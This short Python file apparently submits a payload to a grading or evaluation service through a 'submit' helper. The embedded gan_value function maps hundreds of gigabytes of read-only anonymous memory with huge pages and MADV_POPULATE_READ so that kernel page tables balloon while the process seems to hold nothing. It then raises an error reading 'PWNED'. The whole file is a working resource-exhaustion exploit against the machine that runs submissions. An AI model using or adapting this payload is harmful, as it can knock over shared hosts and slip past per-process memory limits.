"""The kernel's tables of pages grow for addresses that are only read, while the process itself holds nothing."""
from ..craft import submit


def hand_in(folder, notebook):
    # 1.4 GB in half a second here, for this machine's sake; there is nothing in it that would stop.
    submit(folder, notebook, gan_value="""
        def gan_value(*_):
            import mmap, time
            nothing = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000  # MAP_NORESERVE
            read = mmap.mmap(-1, 350_000 << 21, flags=nothing, prot=mmap.PROT_READ)
            read.madvise(14)  # MADV_HUGEPAGE
            read.madvise(22)  # MADV_POPULATE_READ: each table is filled with the one page of zeros
            time.sleep(0.5)
            raise MemoryError("PWNED")
        """)
